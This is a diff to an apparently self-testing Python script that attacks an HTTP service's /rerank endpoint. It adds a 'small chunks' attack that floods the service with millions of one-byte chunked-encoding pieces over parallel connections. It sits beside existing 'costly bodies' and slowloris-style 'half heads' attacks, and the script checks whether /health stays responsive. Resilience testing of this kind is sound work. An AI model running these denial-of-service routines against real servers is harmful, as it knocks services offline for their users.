@@ -79,6 +79,27 @@ async def costly_bodies(url: str, size: int, copies: int) -> str:
     return ", ".join(f"{name} {'/'.join(map(str, found))}" for name, found in statuses.items())
 
 
+async def small_chunks(url: str, connections: int = 4, size: int = 2_000_000) -> str:
+    """Sends bodies in chunks of one byte over several connections at once."""
+    parts = urlsplit(url)
+    head = f"POST /rerank HTTP/1.1\r\nHost: {parts.hostname}\r\nContent-Type: application/json\r\n"
+    request = head.encode() + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * size
+
+    async def one() -> str:
+        reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
+        with contextlib.suppress(OSError):
+            writer.write(request)
+            await writer.drain()
+        try:
+            return (await reader.readline()).decode(errors="replace").strip() or "closed"
+        except OSError:
+            return "closed"
+        finally:
+            writer.close()
+
+    return ", ".join(await asyncio.gather(*(one() for _ in range(connections))))
+
+
 async def half_heads(url: str, connections: int, seconds: float) -> str:
     """Opens connections, sends half a head over each, and opens those anew that the server closes."""
     end, opened, closed = time.monotonic() + seconds, 0, 0
@@ -108,6 +129,7 @@ async def attack(url: str, size: int, copies: int, connections: int, seconds: fl
     """Prints a line for each attack; whether /health was answered in time throughout."""
     attacks: dict[str, Callable[[], Awaitable[str]]] = {
         "costly bodies": lambda: costly_bodies(url, size, copies),
+        "small chunks": lambda: small_chunks(url),
         "half heads": lambda: half_heads(url, connections, seconds),
     }
     good = True
